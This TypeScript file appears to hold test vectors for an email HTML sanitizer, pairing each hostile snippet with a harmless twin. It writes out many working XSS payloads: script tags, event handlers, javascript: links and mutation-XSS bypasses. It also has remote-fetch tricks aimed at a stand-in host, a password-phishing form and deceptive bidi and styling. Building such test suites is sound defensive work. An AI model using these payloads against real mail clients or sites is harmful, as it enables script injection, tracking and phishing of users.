/**
 * Ways in which a message's HTML tries to run, to fetch, to lead away or to deceive; each with a harmless twin that a
 * reader must still see. `RUN` is a script that would be noticed, `GONE` an address that must never be asked for.
 */
export interface Vector {
  readonly name: string;
  readonly html: string;
  /** What nobody may find in what is shown. */
  readonly never?: RegExp;
  /** The same in earnest, and what of it stays. */
  readonly twin: string;
  readonly stays: string;
}

export const RUN = 'top.mailhuntRan=1;alert(1)';
export const GONE = 'https://gone.example/mark';

const vector = (name: string, html: string, twin: string, stays: string, never?: RegExp): Vector => ({
  name,
  html,
  twin,
  stays,
  ...(never && { never }),
});

const p = '<p>Hello</p>';
const hello = ['<p>Hello</p>', '<p>Hello</p>'] as const;

export const vectors: readonly Vector[] = [
  // Scripts and handlers
  vector('script', `${p}<script>${RUN}</script>`, ...hello),
  vector('script from elsewhere', `<script src="${GONE}.js"></script>`, ...hello),
  vector('script in capitals with blanks', `<ScRiPt >${RUN}</sCrIpT >`, ...hello),
  vector('script that is not closed', `<script>${RUN}`, ...hello),
  vector('script in two', `<scr<script>ipt>${RUN}</scr</script>ipt>`, ...hello),
  vector('NUL in the tag', `<scr\0ipt>${RUN}</scr\0ipt>`, ...hello),
  vector('img onerror', `<img src=x onerror="${RUN}">`, '<img alt="Logo">', 'Logo'),
  vector('img without quotes and blanks', `<img/src=x/onerror=${RUN}>`, '<img alt="Logo">', 'Logo'),
  vector('handler by a line feed', `<img src=x on\nerror=${RUN}>`, '<img alt="Logo">', 'Logo'),
  vector('handler in entities', `<img src=x onerror="&#97;lert(1)">`, '<b>x</b>', '<b>x</b>'),
  vector('body onload', `<body onload="${RUN}"><p>Hello</p>`, ...hello),
  vector('focus without a press', `<input autofocus onfocus="${RUN}">`, '<p>Name:</p>', 'Name:'),
  vector('details ontoggle', `<details open ontoggle="${RUN}"><summary>x</summary></details>`, ...hello),
  vector('marquee onstart', `<marquee onstart="${RUN}">x</marquee>`, '<b>x</b>', '<b>x</b>'),
  vector('video and source', `<video src="${GONE}" onerror="${RUN}"><source onerror="${RUN}"></video>`, ...hello),
  vector('audio', `<audio src="${GONE}" autoplay onloadstart="${RUN}"></audio>`, ...hello),
  vector(
    'pointer handlers',
    `<div onmouseover="${RUN}" onpointerenter="${RUN}" style="width:100%">x</div>`,
    '<div>x</div>',
    '<div>x</div>',
  ),
  vector(
    'animation handler',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
    '<p>x</p>',
    '<p>x</p>',
    /animation/,
  ),
  vector(
    'contenteditable and accesskey',
    `<a accesskey=x onclick="${RUN}" contenteditable tabindex=1>x</a>`,
    '<a>x</a>',
    'x',
    /accesskey|contenteditable|tabindex/,
  ),
  // Links
  vector('javascript:', `<a href="javascript:${RUN}">x</a>`, '<a href="https://a.example/">x</a>', 'x'),
  vector(
    'javascript: in entities',
    `<a href="&#106;avascript&colon;${RUN}">x</a>`,
    '<a href="https://a.example/">x</a>',
    'x',
  ),
  vector('javascript: with a tab', `<a href="java\tscript:${RUN}">x</a>`, '<a href="https://a.example/">x</a>', 'x'),
  vector(
    'javascript: with a control before',
    `<a href="\u0001javascript:${RUN}">x</a>`,
    '<a href="https://a.example/">x</a>',
    'x',
  ),
  vector('vbscript:', `<a href="vbscript:msgbox(1)">x</a>`, '<a href="https://a.example/">x</a>', 'x'),
  vector(
    'data: page',
    `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
    '<a href="https://a.example/">x</a>',
    'x',
    /<script/,
  ),
  vector(
    'ping and download',
    `<a href="https://a.example" ping="${GONE}" download target=_top>x</a>`,
    '<a href="https://a.example/">x</a>',
    'x',
    /ping=|target=|download/,
  ),
  vector(
    'area of a map',
    `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap="#m" src=x>`,
    ...hello,
    /usemap|<map|<area/,
  ),
  vector('base', `<base href="${GONE}/"><a href="x">x</a><img src=y>`, ...hello, /<base/),
  vector(
    'link of another name',
    '<a href="https://evil.example/">https://www.contoso.com/</a>',
    '<a href="https://contoso.com/">contoso.com</a>',
    'contoso.com',
  ),
  // What fetches
  vector('remote image', `<img src="${GONE}.png">`, '<p>Logo</p>', 'Logo'),
  vector('srcset', `<img srcset="${GONE} 1x, ${GONE} 2x">`, ...hello, /srcset/),
  vector(
    'picture',
    `<picture><source srcset="${GONE}"><img src="${GONE}"></picture>`,
    ...hello,
    /srcset|<source|<picture/,
  ),
  vector(
    'lowsrc and dynsrc',
    `<img lowsrc="${GONE}" dynsrc="${GONE}" longdesc="${GONE}">`,
    ...hello,
    /lowsrc|dynsrc|longdesc/,
  ),
  vector(
    'background attribute',
    `<table background="${GONE}"><tr><td background="${GONE}">x</td></tr></table>`,
    '<table><tr><td>x</td></tr></table>',
    '<td>x</td>',
    /background=/,
  ),
  vector(
    'background in a style',
    `<p style="background:url(${GONE})">x</p>`,
    '<p style="background:#eee">x</p>',
    'background:#eee',
    /url\(/,
  ),
  vector(
    'background with escapes',
    `<p style="background:\\75 rl(${GONE})">x</p>`,
    '<p style="color:red">x</p>',
    'color:red',
    /\\75/,
  ),
  vector(
    'image-set',
    `<p style="background-image:image-set('${GONE}' 1x)">x</p>`,
    '<p style="color:red">x</p>',
    'color:red',
    /image-set/,
  ),
  vector(
    'list picture and cursor',
    `<ul style="list-style:url(${GONE});cursor:url(${GONE}),auto"><li>x</li></ul>`,
    '<ul><li>x</li></ul>',
    '<li>x</li>',
    /url\(|cursor/,
  ),
  vector(
    'content and filter',
    `<p style="content:url(${GONE});filter:url(${GONE}#f);mask:url(${GONE})">x</p>`,
    '<p style="color:red">x</p>',
    'color:red',
    /url\(|filter|mask/,
  ),
  vector('@import', `<style>@import url(${GONE}.css);</style>`, ...hello, /@import/),
  vector(
    '@font-face',
    `<style>@font-face{font-family:x;src:url(${GONE})}p{font-family:x}</style><p>x</p>`,
    '<p>x</p>',
    '<p>x</p>',
    /@font-face/,
  ),
  vector(
    'link to a style sheet',
    `<link rel=stylesheet href="${GONE}.css"><link rel=preload as=image href="${GONE}"><link rel=dns-prefetch href="//gone.example">`,
    ...hello,
    /<link/,
  ),
  vector('iframe', `<iframe src="${GONE}"></iframe>`, ...hello, /<iframe/),
  vector('iframe with a document', `<iframe srcdoc="<script>${RUN}</script>">x</iframe>`, ...hello, /srcdoc/),
  vector('frameset', `<frameset><frame src="${GONE}"></frameset>`, ...hello, /<frame/),
  vector(
    'object and embed',
    `<object data="${GONE}"><param name=movie value="${GONE}"></object><embed src="${GONE}">`,
    ...hello,
    /<object|<embed|<param/,
  ),
  vector('applet', `<applet code=x archive="${GONE}"></applet>`, ...hello, /<applet/),
  vector('meta refresh', `<meta http-equiv=refresh content="0;url=${GONE}">`, ...hello, /<meta/),
  vector('meta policy', `<meta http-equiv="Content-Security-Policy" content="script-src *">`, ...hello, /<meta/),
  vector(
    'manifest of the html tag',
    `<html manifest="${GONE}"><body>x</body></html>`,
    '<b>x</b>',
    '<b>x</b>',
    /manifest/,
  ),
  vector('video poster and track', `<video poster="${GONE}"><track src="${GONE}"></video>`, ...hello, /poster|<track/),
  vector('input of type image', `<input type=image src="${GONE}">`, ...hello, /<input/),
  vector(
    'Outlook VML',
    `<v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill src="${GONE}" /></v:rect>`,
    ...hello,
    /<v:/,
  ),
  vector(
    'conditional comment',
    `<!--[if gte IE 5]><script>${RUN}</script><img src="${GONE}"><![endif]-->${p}`,
    ...hello,
  ),
  // Forms
  vector(
    'form',
    `<form action="${GONE}" method=post><input name=password type=password><button>Sign in</button></form>`,
    '<p>Sign in</p>',
    'Sign in',
    /<form|<input|<button/,
  ),
  vector(
    'formaction',
    `<button formaction="javascript:${RUN}">x</button>`,
    '<b>x</b>',
    '<b>x</b>',
    /<button|formaction=/,
  ),
  vector('isindex', `<isindex action="javascript:${RUN}" prompt=x>`, ...hello, /<isindex/),
  vector(
    'select and textarea',
    `<select onchange="${RUN}"><option>a</option></select><textarea><img src=x onerror="${RUN}"></textarea>`,
    ...hello,
    /<select|<textarea|<option/,
  ),
  vector(
    'keygen and output',
    `<keygen autofocus onfocus="${RUN}"><output form=x>1</output>`,
    ...hello,
    /<keygen|<output/,
  ),
  // Other languages
  vector('svg onload', `<svg onload="${RUN}"></svg>`, ...hello, /<svg/),
  vector('svg script', `<svg><script>${RUN}</script></svg>`, ...hello, /<svg/),
  vector('svg use', `<svg><use href="${GONE}#x"/><image href="${GONE}"/></svg>`, ...hello, /<svg|<use/),
  vector(
    'svg animate',
    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
    ...hello,
    /<animate/,
  ),
  vector(
    'svg foreignObject',
    `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
    ...hello,
    /foreignobject/i,
  ),
  vector(
    'svg as a picture',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
    '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="dot">',
    'src="data:image/gif;base64,R0lGODlhAQABAIAA',
  ),
  vector(
    'a page that says it is a picture',
    '<img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    ...hello,
    /<img/,
  ),
  vector(
    'math',
    `<math href="javascript:${RUN}"><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
    ...hello,
    /<math/,
  ),
  // Parsers that differ
  vector('mutation by noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, ...hello),
  vector(
    'mutation by math and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    ...hello,
  ),
  vector('mutation by svg and title', `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, ...hello),
  vector(
    'mutation by form and table',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    ...hello,
  ),
  vector(
    'mutation by select',
    `<select><template><style></select><img src=x onerror=${RUN}></style></template></select>`,
    ...hello,
  ),
  vector('mutation by a comment', `<!--><img src=x onerror=${RUN}>-->`, '<!-- note --><p>Hello</p>', '<p>Hello</p>'),
  vector('mutation by xmp', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`, ...hello),
  vector('mutation by plaintext', `<plaintext><img src=x onerror=${RUN}>`, ...hello),
  vector(
    'mutation by noembed and noframes',
    `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
    ...hello,
  ),
  vector('CDATA', `<svg><![CDATA[<img src=x onerror=${RUN}>]]></svg><![CDATA[<img src=x onerror=${RUN}>]]>`, ...hello),
  vector(
    'processing instruction',
    `<?xml-stylesheet href="${GONE}"?><?php echo 1 ?><img src=x onerror=${RUN}>`,
    ...hello,
  ),
  vector('doctype', `<!DOCTYPE x [<!ENTITY e SYSTEM "${GONE}">]>&e;<p>Hello</p>`, ...hello),
  vector('template', `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`, ...hello, /<template/),
  vector(
    'attribute that breaks out',
    `<p title='"><img src=x onerror=${RUN}>'>x</p>`,
    '<p title="a &amp; b">x</p>',
    'title="a &amp; b"',
  ),
  vector('attribute with a backtick', `<p title="\`\`onmouseover=${RUN}">x</p>`, '<p title="ok">x</p>', 'title="ok"'),
  vector(
    'duplicate attributes',
    `<a href="https://a.example" href="javascript:${RUN}">x</a>`,
    '<a href="https://a.example/">x</a>',
    'x',
  ),
  vector(
    'marks that are ours',
    `<a data-n="0" class="mh-link">x</a><img data-n="0" class="mh-image"><p class="mh-head">trusted</p>`,
    '<p>trusted</p>',
    '<p>trusted</p>',
    /data-n|<p class/,
  ),
  vector('entities that are a script', '&lt;script&gt;alert(1)&lt;/script&gt;', '1 &lt; 2', '1 &lt; 2', /<script/),
  // Deceit
  vector(
    'position',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;background:#fff">x</div>',
    '<div style="width:100%">x</div>',
    'width:100%',
    /position|z-index|top:|height/,
  ),
  vector(
    'negative margin',
    '<p style="margin-top:-40px">x</p>',
    '<p style="margin-top:4px">x</p>',
    'margin-top:4px',
    /-40/,
  ),
  vector(
    'transform and clip',
    '<p style="transform:translateY(-40px);clip-path:inset(0);float:none">x</p>',
    '<p style="float:left">x</p>',
    'float:left',
    /transform|clip/,
  ),
  vector(
    'expression',
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
    '<p style="width:10px">x</p>',
    'width:10px',
    /expression|behavior|binding/,
  ),
  vector(
    'var() and calc()',
    '<p style="--x:1;width:var(--x);width:calc(1px)">x</p>',
    '<p style="width:2em">x</p>',
    'width:2em',
    /var|calc/,
  ),
  vector(
    'order of letters',
    '<bdo dir=rtl>moc.osotnoc</bdo><p style="unicode-bidi:bidi-override;direction:rtl">x</p>',
    '<p dir="rtl">שלום</p>',
    'שלום',
    /<bdo|unicode-bidi/,
  ),
  vector('override of the direction', '<p>invoice\u202efdp.exe</p>', '<p>rechts\u200f</p>', 'rechts', /\u202e/),
  vector(
    'id and name',
    '<a id=top name=location>x</a><img name=body id=cookie>',
    '<b>x</b>',
    '<b>x</b>',
    / id=| name=/,
  ),
];
